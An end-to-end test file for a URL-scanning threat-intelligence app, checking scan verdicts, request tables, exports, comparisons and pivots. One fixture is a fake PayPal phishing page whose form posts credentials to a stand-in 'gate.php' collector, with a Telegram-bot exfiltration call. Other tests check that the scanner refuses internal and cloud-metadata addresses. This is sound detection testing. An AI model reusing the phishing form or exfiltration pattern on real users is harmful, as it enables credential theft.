import { readFile } from "node:fs/promises";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { expectNoFaultsInSoak, faultsInTheme } from "../support/axe.ts";
import { eventually, goWithin, pathOf, useSharedPages } from "../support/pages.ts";
import { type ScanSite, startScanSite } from "../support/scan-site.ts";
import { soak } from "../../packages/core/src/testing/soak.ts";
import { itInSoak } from "../../packages/core/src/testing/in-soak.ts";

const LOGIN = `<!doctype html><html lang="en"><head><title>Sign in to Page Test</title></head>
<body><h1>Sign in</h1><form action="/post" method="post"><input name="user"><input type="password" name="pass"></form>
<script src="/app.js"></script><img src="/missing.png" alt="">
<script>fetch("http://10.0.0.1/").catch(() => 0); document.cookie = "seen=1";</script>
scan-page@example.net</body></html>`;

describe("the pages of URL scans", () => {
  const pages = useSharedPages();
  let site: ScanSite;
  let off: string | null;
  let text = "";

  beforeAll(async () => {
    site = await startScanSite({
      "/": (_request, response) => response.writeHead(302, { location: "/login" }).end(),
      "/login": LOGIN,
      "/changing": (_request, response) =>
        response
          .writeHead(200, { "content-type": "text/html" })
          .end(`<!doctype html><html lang="en"><title>Changing page</title><h1>Changing page</h1><p>${text}</p>`),
      "/collecting": `<!doctype html><html lang="en"><title>Log in to your PayPal account</title><h1>PayPal</h1>
        <p>Your account is limited. Log in with your password to verify your identity.</p>
        <form method="post" action="http://collect.localhost:9102/gate.php"><input type="email" name="login_email"><input type="password" name="login_password"><button>Log In</button></form>
        <script>const bot = () => fetch("https://api.telegram.org/bot7123456789:AA${"q".repeat(33)}/sendMessage")</script>
        <script>var _gaq = "UA-73512345-2"</script>`,
      "/reset": (request) => void request.socket.destroy(),
      "/app.js": (_request, response) =>
        response.writeHead(200, { "content-type": "text/javascript" }).end("globalThis.app = 1;"),
    });
    ({ off } = (await pages.client.get("/query/url/settings")).body.data);
    if (off !== null) console.warn(`NOT TESTED: pages of URL scans. ${off}`);
  });
  afterAll(() => site.close());

  const region = (page: Page, name: string) => page.getByRole("region", { name, exact: true });
  const scan = async (page: Page, url: string) => {
    await page.getByLabel("URL or domain").fill(url);
    await page.keyboard.press("Enter");
  };

  itInSoak("look at a page by keys, and tell the verdict first, then what it loaded", async ({ skip }) => {
    skip(off !== null, off ?? "");
    const page = await pages.open("/scan");
    const isSeen = page.getByText(/^Every account will see all that the page shows/);
    await expect(isSeen).toBeHidden();
    await page.getByRole("combobox", { name: "Who may see it" }).selectOption("public");
    await expect(isSeen).toBeVisible();
    await page.getByRole("combobox", { name: "Who may see it" }).selectOption("private");
    await scan(page, site.at("/?reset=1&u=a%40example.net"));
    const warning = page.getByRole("status").filter({ hasText: "looks like an e-mail address" });
    await expect(warning).toBeVisible();
    expect(site.asked).toEqual([]);
    expect(await faultsInTheme(page)).toEqual([]);

    await scan(page, site.at("/"));
    await expect(
      page.getByRole("status").filter({ hasText: /In the queue|starts|loads|is read|stored/ }),
    ).toBeVisible();
    const summary = region(page, "Summary");
    await expect(summary.getByRole("img", { name: /as the browser showed it/ })).toBeVisible();
    const words = (await summary.textContent()) ?? "";
    expect(words).toMatch(/(No sign|Not called|Malicious|On a list).*Sign in to Page Test.*127\.0\.0\.1.*302.*200/s);
    expect(await summary.getByRole("list", { name: "Redirects" }).getByRole("listitem").count()).toBe(2);
    expect(await page.getByRole("main").getByRole("region").first().getAttribute("aria-label")).toBe("Summary");

    // Loopback has no score, as its own page says; what was seen leads on.
    expect(
      await region(page, "Hosts")
        .getByRole("row", { name: /^127\.0\.0\.1/ })
        .textContent(),
    ).toMatch(/No score$/);
    await expect(summary.locator("[data-door=url]").first()).toBeVisible();

    // On paper nothing scrolls, no column is cut, and times are dates.
    await page.emulateMedia({ media: "print" });
    await page.setViewportSize({ width: 720, height: 1000 });
    const requests = page.getByRole("region", { name: "Requests, scrolls" });
    const sticksOut = () =>
      requests.evaluate((table: { scrollWidth: number; clientWidth: number }) => table.scrollWidth > table.clientWidth);
    await eventually(sticksOut).toBe(false);
    expect(
      await page.evaluate(`getComputedStyle(document.querySelector('[aria-label="Requests, scrolls"]')).overflowX`),
    ).toBe("visible");
    await eventually(() => page.getByRole("main").innerText()).toMatch(
      /URL Scan · \d{1,2} [A-Z][a-z]{2} \d{4}, \d\d:\d\d UTC/,
    );
    await page.emulateMedia({ media: null });
    await page.setViewportSize({ width: 1440, height: 900 });

    const rows = region(page, "Requests").locator("tbody tr");
    expect(await rows.count()).toBeGreaterThanOrEqual(5);
    await region(page, "Requests").getByRole("searchbox", { name: "Filter requests" }).fill("10.0.0.1");
    await eventually(() => rows.count()).toBe(1);
    expect(await rows.textContent()).toContain("is refused");
    expect(await region(page, "Content").textContent()).toMatch(/own site.*user, pass.*scan-page@example\.net/s);
    expect(await region(page, "Cookies").textContent()).toContain("seen");
    expect(await faultsInTheme(page)).toEqual([]);

    const exported = async (name: string) => {
      await page.getByRole("button", { name: "Export", exact: true }).click();
      const item = page.getByRole("menuitem", { name, exact: true });
      const [file] = await Promise.all([page.waitForEvent("download"), item.click()]);
      return JSON.parse(await readFile(await file.path(), "utf8"));
    };
    const har = await exported("HAR");
    expect(har.log.entries[0]).toMatchObject({
      request: { method: "GET", url: site.at("/") },
      response: { status: 302, redirectURL: site.at("/login") },
      serverIPAddress: "127.0.0.1",
    });

    const { objects } = await exported("STIX 2.1");
    expect(objects).toContainEqual(expect.objectContaining({ type: "url", value: site.at("/login") }));

    await page.getByRole("button", { name: "Report", exact: true }).click();
    const draft = page.getByRole("dialog").getByRole("textbox").first();
    await eventually(() => draft.inputValue()).toContain(site.at("/login"));
    await page.keyboard.press("Escape");

    await page.getByRole("main").getByRole("link", { name: "URL Scan", exact: true }).click();
    await region(page, "Your scans")
      .getByRole("link", { name: site.at("/"), exact: true })
      .click();
    await expect(region(page, "Summary")).toBeVisible();
  });

  itInSoak("compare scans of a URL, lead on by what they share, and delete one", async ({ skip }) => {
    skip(off !== null, off ?? "");
    const page = await pages.open("/scan");
    text = "It stands.";
    await scan(page, site.at("/changing"));
    await expect(region(page, "Summary")).toBeVisible();
    expect(await region(page, "Scans of this URL").count()).toBe(0);
    text = "It is different now.";
    await page.getByRole("button", { name: "Rescan", exact: true }).click();
    const again = region(page, "Scans of this URL");
    await expect(again.getByRole("link", { name: "Compare" })).toBeVisible();
    await region(page, "Related scans")
      .getByRole("row", { name: "Title Changing page" })
      .getByRole("button", { name: /^\d+ scan/ })
      .click();
    await expect(
      region(page, "Related scans")
        .getByRole("link", { name: site.at("/changing") })
        .first(),
    ).toBeVisible();
    expect(await faultsInTheme(page)).toEqual([]);

    await again.getByRole("link", { name: "Compare" }).click();
    await eventually(() => region(page, "Both scans").getByRole("img").count()).toBe(2);
    const changed = region(page, "What changed");
    await expect(changed.getByRole("rowheader", { name: "Content hash" })).toBeVisible();
    expect(await changed.getByRole("rowheader", { name: "Title" }).count()).toBe(0);
    await expect(changed.locator("[data-door=hash]").first()).toBeVisible();
    const words = region(page, "Text");
    expect(await words.textContent()).toMatch(/Gone:It stands\..*New:It is different now\./s);
    expect(await faultsInTheme(page)).toEqual([]);
    await page.reload();
    await expect(changed.getByRole("rowheader", { name: "Content hash" })).toBeVisible();

    const compared = pathOf(page);
    // Any two can be chosen.
    await page.getByRole("link", { name: "Others" }).click();
    const choice = region(page, "Two scans are compared");
    await expect(choice).toBeVisible();
    const ids = new URLSearchParams(compared.split("?")[1]);
    await choice.getByLabel("One scan").selectOption(ids.get("b") ?? "");
    await choice.getByLabel("The other").selectOption(ids.get("b") ?? "");
    expect(await choice.getByRole("button", { name: "Compare", exact: true }).isDisabled()).toBe(true);
    await choice.getByLabel("One scan").selectOption(ids.get("a") ?? "");
    await choice.getByRole("button", { name: "Compare", exact: true }).click();
    await eventually(() => pathOf(page)).toBe(compared);
    await eventually(() => region(page, "Both scans").getByRole("img").count()).toBe(2);
    await region(page, "Both scans").getByRole("link").first().click();
    await expect(page.getByRole("button", { name: "Delete this scan" })).toBeVisible();
    const address = pathOf(page);
    await page.getByRole("button", { name: "Delete this scan" }).click();
    await page.getByRole("alertdialog").getByRole("button", { name: "Delete" }).click();
    await eventually(() => pathOf(page)).toBe("/scan");
    for (const gone of [address, compared]) {
      await goWithin(page, gone);
      await eventually(() => pathOf(page)).toBe(gone);
      await expect(page.getByRole("heading", { name: "No such scan" })).toBeVisible();
    }
  });

  itInSoak(
    "look at a page, tell the verdict first, then what it loaded, and warn of secrets in its URL",
    async ({ skip }) => {
      skip(off !== null, off ?? "");
      const page = await pages.open("/scan");
      const before = site.asked.length;
      await scan(page, site.at("/?reset=1&u=a%40example.net"));
      const warning = page.getByRole("status").filter({ hasText: "looks like an e-mail address" });
      await expect(warning).toBeVisible();
      await eventually(() => warning.locator("mark").allTextContents()).toEqual(["a%40example.net"]);
      const warned = (await warning.textContent()) ?? "";
      expect(warned).not.toMatch(/accept_private_parts|\.:/);
      expect(warned.match(/looks like an e-mail address/g)).toHaveLength(1);
      expect(warned.match(/may hold a secret/g)).toHaveLength(1);
      expect(site.asked).toHaveLength(before);
      await scan(page, site.at("/"));
      const summary = region(page, "Summary");
      await expect(summary.getByRole("img", { name: /as the browser showed it/ })).toBeVisible();
      expect(await summary.textContent()).toMatch(
        /(No sign|Not called|Malicious|On a list).*Sign in to Page Test.*127\.0\.0\.1.*302.*200/s,
      );
      expect(await page.getByRole("main").getByRole("region").first().getAttribute("aria-label")).toBe("Summary");
      const refused = region(page, "Requests").locator("tbody tr").filter({ hasText: "10.0.0.1" });
      expect(await refused.textContent()).toContain("is refused");

      // A request opens to all that is kept of it; only what is led on leads to somewhere.
      const row = async (url: string) => {
        const found = region(page, "Requests").locator("tbody tr").filter({ hasText: url }).first();
        await found.getByRole("button", { expanded: false }).click();
        return (await found.locator("dl").textContent()) ?? "";
      };
      const script = await row("/app.js");
      expect(script).toMatch(
        /Asked for by.*\/login.*Address127\.0\.0\.1, port \d+.*SHA-256[\da-f]{64}, 19 B.*Times.*waiting \d+ ms/,
      );
      expect(script).not.toContain("Leads to");
      expect(await row(site.at("/"))).toContain(`Leads to${site.at("/login")}`);

      // The picture can be seen whole, opened in a tab, and saved.
      await summary.getByRole("button", { name: /as the browser showed it/ }).click();
      const whole = page.getByRole("dialog", { name: "Picture of the page" });
      await expect(whole.getByRole("img")).toBeVisible();
      expect(await whole.getByRole("img").evaluate((one: { clientWidth: number }) => one.clientWidth)).toBeGreaterThan(
        900,
      );
      const [picture] = await Promise.all([
        page.waitForEvent("download"),
        whole.getByRole("link", { name: "Save" }).click(),
      ]);
      expect((await readFile(await picture.path())).toString("latin1", 8, 12)).toBe("WEBP");
      const [tab] = await Promise.all([
        page.waitForEvent("popup"),
        whole.getByRole("link", { name: "Open in a tab" }).click(),
      ]);
      expect(tab.url()).toMatch(/^blob:/);
      await tab.close();
      expect(await faultsInTheme(page)).toEqual([]);
      await page.keyboard.press("Escape");
      await expect(whole).toBeHidden();
      expect(await region(page, "Content").textContent()).toMatch(/own site.*user, pass.*scan-page@example\.net/s);
      // The result shows the second request as a phone, and offers a scan as one.
      expect(await summary.textContent()).toMatch(
        /Fyr asked once more as Android phone, without a browser: status 200, “Sign in to Page Test”, \d+ Bytes, at http.*\/login/,
      );
      // Counts are of the same.
      const [, count] = /Loaded(\d+) requests/.exec((await summary.textContent()) ?? "") ?? [];
      expect(await region(page, "Requests").textContent()).toContain(`${count} requests`);
      expect(await page.getByRole("navigation", { name: "Sections of the result" }).textContent()).toContain(
        `Requests${count}`,
      );
      const first = pathOf(page);
      await page.getByRole("button", { name: "Scan as phone" }).click();
      await eventually(() => pathOf(page)).not.toBe(first);
      await expect(page.getByText(/· as phone/)).toBeVisible();
      await expect(page.getByRole("button", { name: "Scan as desktop" })).toBeVisible();

      // The scan before is what it is compared with.
      await page.getByRole("link", { name: "Compare", exact: true }).first().click();
      const choice = region(page, "Two scans are compared");
      await eventually(() => choice.getByLabel("The other").inputValue()).toBe(first.split("/").at(-1));
      await page.goBack();
      await page.getByRole("main").getByRole("link", { name: "URL Scan", exact: true }).click();

      // Lists are searched, and the address has what for.
      const own = region(page, "Your scans").getByRole("listitem");
      await page.getByRole("searchbox", { name: "URL, host or title" }).fill("page TEST");
      await eventually(() => pathOf(page)).toContain("search=page");
      await eventually(() => own.count()).toBe(2);
      await page.getByLabel("From").fill("2020-01-01");
      await page.getByRole("combobox", { name: "Verdict" }).selectOption("failed");
      await expect(region(page, "Your scans").getByText("None is as the filter wants it.")).toBeVisible();
      expect(await faultsInTheme(page)).toEqual([]);
      await page.reload();
      expect(await page.getByRole("searchbox", { name: "URL, host or title" }).inputValue()).toBe("page TEST");
      await page.getByRole("combobox", { name: "Verdict" }).selectOption("not_malicious");
      await eventually(() => own.count()).toBe(2);
      await expect(
        region(page, "Your scans")
          .getByRole("link", { name: site.at("/"), exact: true })
          .first(),
      ).toBeVisible();

      // What is selected is copied, exported, compared and deleted.
      const list = region(page, "Your scans");
      await list
        .getByRole("checkbox", { name: `Select the scan of ${site.at("/")}` })
        .first()
        .press("Space");
      await expect(list.getByText("1 selected")).toBeVisible();
      expect(await list.getByRole("button", { name: "Compare" }).isDisabled()).toBe(true);
      await list.getByRole("checkbox", { name: "Select all scans of the page" }).click();
      await expect(list.getByText("2 selected")).toBeVisible();
      expect(await faultsInTheme(page)).toEqual([]);
      await list.getByRole("button", { name: "Export" }).click();
      const [file] = await Promise.all([
        page.waitForEvent("download"),
        page.getByRole("menuitem", { name: "jsonl" }).click(),
      ]);
      expect((await readFile(await file.path(), "utf8")).trim().split("\n")).toHaveLength(2);
      await list.getByRole("button", { name: "Compare" }).click();
      await eventually(() => region(page, "Both scans").getByRole("img").count()).toBe(2);
      await page.goBack();
      await list
        .getByRole("checkbox", { name: /^Select the scan of/ })
        .first()
        .click();
      await list.getByRole("button", { name: "Delete" }).click();
      await page.getByRole("alertdialog").getByRole("button", { name: "Delete" }).click();
      await eventually(() => own.count()).toBe(1);
    },
  );

  // Each scan starts a browser: what needs none is here, what the result of one shows is in the next.
  it("warn of secrets in a URL, refuse what is inside before it waits, and know no scan that is none", async ({
    skip,
  }) => {
    skip(off !== null, off ?? "");
    const page = await pages.open("/scan");
    const before = site.asked.length;
    await scan(page, site.at("/?reset=1&u=a%40example.net"));
    const warning = page.getByRole("status").filter({ hasText: "looks like an e-mail address" });
    await expect(warning).toBeVisible();
    await eventually(() => warning.locator("mark").allTextContents()).toEqual(["a%40example.net"]);
    expect(site.asked).toHaveLength(before);
    await scan(page, "http://169.254.169.254/latest/");
    await expect(page.getByRole("alert").getByText("169.254.169.254 is refused")).toBeVisible();
    expect(pathOf(page)).toBe("/scan");
    await goWithin(page, "/scan/01990000-0000-7000-8000-000000000000");
    await expect(page.getByText("No such scan")).toBeVisible();
  });

  it("lead on from who takes what is typed, and from a title and a tracker, to the scans that have it", async ({
    skip,
  }) => {
    skip(off !== null, off ?? "");
    const host = "paypal-signin.localhost";
    const phish = site.at("/collecting", host);
    const page = await pages.goOn("/scan");
    await scan(page, phish);
    const artifacts = region(page, "Artifacts");
    await expect(artifacts).toBeVisible();
    const shown = (await artifacts.textContent()) ?? "";
    expect(shown).toMatch(/Posts to.*http:\/\/collect\.localhost:9102\/gate\.php/s);
    expect(shown).toMatch(/https:\/\/api\.telegram\.org\/bot7123…qqqq\/sendMessage/);
    const summary = region(page, "Summary");
    await expect(summary.getByRole("img", { name: /as the browser showed it/ })).toBeVisible();
    expect(await summary.textContent()).toMatch(/Malicious.*Log in to your PayPal account.*127\.0\.0\.1.*200/s);
    expect(await page.getByRole("main").getByRole("region").first().getAttribute("aria-label")).toBe("Summary");
    const request = region(page, "Requests").locator("tbody tr").filter({ hasText: phish }).first();
    await request.getByRole("button", { expanded: false }).click();
    expect(await request.locator("dl").textContent()).toMatch(/Address127\.0\.0\.1, port \d+.*SHA-256[\da-f]{64}/);
    const address = pathOf(page);
    await artifacts.getByRole("link", { name: "scans that post there" }).first().click();
    const link = page.getByRole("main").getByRole("link", { name: phish, exact: true });
    await expect(link.first()).toBeVisible();
    expect(await page.getByRole("main").textContent()).toContain("http://collect.localhost:9102/gate.php");

    const shared: readonly (readonly [string, string, string])[] = [
      ["text", "Log in to your PayPal account", "Scans with the same title"],
      ["tracker", "UA-73512345-2", "Scans with the same tracker"],
      ["text", "UA-73512345-2", "Scans with the same tracker"],
    ];
    for (const [kind, value, words] of soak(shared, shared.slice(1, 2))) {
      await goWithin(page, `/pivot?kind=${kind}&value=${encodeURIComponent(value)}`);
      await expect(
        region(page, "URL scans").getByRole("region", { name: words }).getByRole("link").first(),
      ).toBeVisible();
      expect(await page.getByRole("article").getByRole("region").first().getAttribute("aria-label")).toBe("URL scans");
    }
    await expectNoFaultsInSoak(page);
    await goWithin(page, "/pivot?kind=text&value=No%20page%20has%20this");
    await expect(page.getByText("None of the scans that you may see has it.")).toBeVisible();

    await goWithin(page, "/search?input=collect.localhost&type=domain");
    await expect(region(page, "URL scans").getByRole("link", { name: phish }).first()).toBeVisible();

    // The domain page shows the verdict of a scan where no list knows the name.
    await goWithin(page, `/search?input=${host}&type=domain`);
    await expect(region(page, "URL scans").getByText(/^Malicious: phishing/)).toBeVisible();
    const words = /Unknown: [^;]+; a scan of \d+ \w+ \d{4}, [\d:]+ .* took it for phishing/;
    await expect(page.getByRole("article").locator("header").getByText(words)).toBeVisible();
    expect(await region(page, "Why this risk").textContent()).toMatch(
      /No list speaks for or against this domain; a scan/,
    );
    expect(await page.getByRole("main").textContent()).not.toMatch(/no evidence/i);
    await page
      .getByRole("article")
      .locator("header")
      .getByRole("link", { name: /^a scan of/ })
      .click();
    await eventually(() => pathOf(page)).toBe(address);
    await expect(artifacts).toBeVisible();
  });

  itInSoak("stand on the pages of the addresses that they reached", async ({ skip }) => {
    skip(off !== null, off ?? "");
    const page = await pages.open("/search?input=127.0.0.1&type=ip");
    await expect(
      region(page, "URL scans")
        .getByRole("link", { name: site.at("/"), exact: true })
        .first(),
    ).toBeVisible();
  });

  itInSoak("say why a scan failed", async ({ skip }) => {
    skip(off !== null, off ?? "");
    const page = await pages.goOn("/scan");
    await scan(page, "http://169.254.169.254/latest/");
    await expect(page.getByRole("alert").getByText("169.254.169.254 is refused")).toBeVisible();
    expect(pathOf(page)).toBe("/scan");
    await scan(page, site.at("/reset"));
    await expect(page.getByRole("button", { name: "Scan again" })).toBeVisible();
    await expect(page.getByText(/The page could not be opened/)).toBeVisible();
    expect(await faultsInTheme(page)).toEqual([]);

    await goWithin(page, "/scan/01990000-0000-7000-8000-000000000000");
    await expect(page.getByText("No such scan")).toBeVisible();
    expect(pathOf(page)).toContain("/scan/");
    await goWithin(page, "/scan/1");
    await expect(page.getByText("No such scan")).toBeVisible();
    expect(await page.getByRole("main").getByRole("button", { name: "Try Again" }).count()).toBe(0);
  });
});
